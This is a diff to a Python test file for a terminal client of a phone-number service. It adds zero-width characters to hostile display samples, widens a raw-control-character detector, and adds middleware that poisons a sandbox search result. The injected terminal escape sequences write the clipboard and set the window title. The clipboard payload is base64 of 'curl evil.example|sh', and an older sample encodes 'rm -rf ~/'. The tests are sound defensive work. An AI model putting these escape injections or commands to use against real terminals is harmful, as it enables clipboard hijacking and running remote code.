@@ -35,7 +35,7 @@ SAMPLES: tuple[str, ...] = (
     "[b]bold? [red]red?",
     "title \x1b]0;pwned\x07 clear \x1b[2J\x1b[H osc52 \x1b]52;c;cm0gLXJmIH4vCg==\x07 end",
     f"c0 {C0} del \x7f c1 {C1} end",
-    "bidi \u202eevil\u202c \u2066iso\u2069 \u200f end",
+    "bidi \u202eevil\u202c \u2066iso\u2069 \u200f zero-width sup\u200bport\ufeff end",
     "नमस्ते दुनिया — डेंटल क्लिनिक",
     "電話番号の申込 東京歯科",
     "📞👩🏽‍💻🇮🇳 emoji",
@@ -45,7 +45,9 @@ SAMPLES: tuple[str, ...] = (
 # What must be on screen somewhere, as typed, once the hostile samples are listed.
 LITERALS = (MARKUP, "[@click=app.quit]quit[/]", FIELD)
 # A raw control character anywhere in what is drawn: what no screen may show.
-RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
+RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\u200b\u2060\ufeff]"
+                         # a joiner beside ASCII joins nothing it could draw differently
+                         "|[\u200c\u200d](?=[\x00-\x7e])|(?<=[\x00-\x7e])[\u200c\u200d]")
 
 EDGE_DATES = ("9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59")
 # Strings the client needs as they are for the answer to parse at all.
@@ -131,3 +133,44 @@ def assert_drawn_safely(app: App[Any], where: str) -> str:
     bad = RAW_CONTROL.search(text.replace("\n", ""))
     assert bad is None, f"{where}: raw {bad.group()!r} on screen near {text[max(bad.start() - 40, 0):bad.start() + 10]!r}"
     return text
+
+
+# A number search whose first result carries terminal control where the wizard copies it into
+# its fields: OSC 52 (write the clipboard), OSC 0 (set the window title), BEL and a C1 CSI.
+CLIPBOARD = "Y3VybCBldmlsLmV4YW1wbGV8c2g="  # base64 of "curl evil.example|sh"
+POISONED_NUMBER = f"9122\x1b]52;c;{CLIPBOARD}\x07\x1b]0;pwned-title\x07\x9b2J"
+POISONED_COUNTRY = "I\x1b]0;country-title\x07\x9bN"
+SEARCH_PATH = "/v1/phone-numbers/available"
+
+
+class PoisonedSearch:
+    """ASGI middleware around the sandbox: the first search result's ``number`` and
+    ``countryIso`` hold terminal control; everything else is the sandbox's own answer."""
+
+    def __init__(self, app: Any) -> None:
+        self.app = app
+
+    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
+        if scope["type"] != "http" or scope["path"] != SEARCH_PATH:
+            await self.app(scope, receive, send)
+            return
+        start: dict[str, Any] = {}
+        chunks: list[bytes] = []
+
+        async def keep(message: dict[str, Any]) -> None:
+            if message["type"] == "http.response.start":
+                start.update(message)
+            else:
+                chunks.append(message.get("body", b""))
+
+        await self.app(scope, receive, keep)
+        data = b"".join(chunks)
+        if start["status"] == 200:
+            body = json.loads(data)
+            if body.get("items"):
+                body["items"][0]["number"] = POISONED_NUMBER
+                body["items"][0]["countryIso"] = POISONED_COUNTRY
+            data = json.dumps(body).encode()
+        headers = [(k, v) for k, v in start["headers"] if k.lower() != b"content-length"]
+        await send({**start, "headers": [*headers, (b"content-length", str(len(data)).encode())]})
+        await send({"type": "http.response.body", "body": data})
